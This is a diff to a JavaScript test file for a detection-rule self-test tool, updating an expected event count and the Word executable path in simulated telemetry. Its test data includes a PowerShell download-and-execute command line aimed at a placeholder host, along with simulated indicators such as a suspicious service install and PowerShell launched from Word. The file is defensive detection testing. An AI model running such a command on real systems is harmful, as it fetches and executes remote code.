@@ -25,9 +25,9 @@ describe('selfTestRule', () => {
 
   it('does not fire when the rule asks for something no observable shows, or cannot run', () => {
     const observables = [{ type: 'cmdline', value: 'powershell -nop -c iex(iwr http://x)' }];
-    // The process, its script block, the classic and module logs of the PowerShell host, and the lookup of and
-    // connection to the host it fetches from.
-    expect(selfTestRule(rule("    Image|endswith: '\\pwsh.exe'"), observables)).toMatchObject({ fires: false, events: 7, fired_on: [] });
+    // The process, its script block, the classic and module logs of the PowerShell host, its PSHost pipe, and the
+    // lookup of and connection to the host it fetches from.
+    expect(selfTestRule(rule("    Image|endswith: '\\pwsh.exe'"), observables)).toMatchObject({ fires: false, events: 8, fired_on: [] });
     expect(selfTestRule(rule("    CommandLine|re: '(unclosed'"), observables)).toMatchObject({
       fires: false,
       error: expect.stringMatching(/regular expression/),
@@ -53,7 +53,7 @@ describe('selfTestRule', () => {
         expect.objectContaining({ EventID: 7045, ServiceName: 'WinSvcHost', ImagePath: 'C:\\ProgramData\\svc.exe' }),
         expect.objectContaining({
           Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
-          ParentImage: 'C:\\Windows\\System32\\winword.exe',
+          ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\winword.exe',
         }),
         expect.objectContaining({ DestinationIp: '198.51.100.7' }),
       ]),
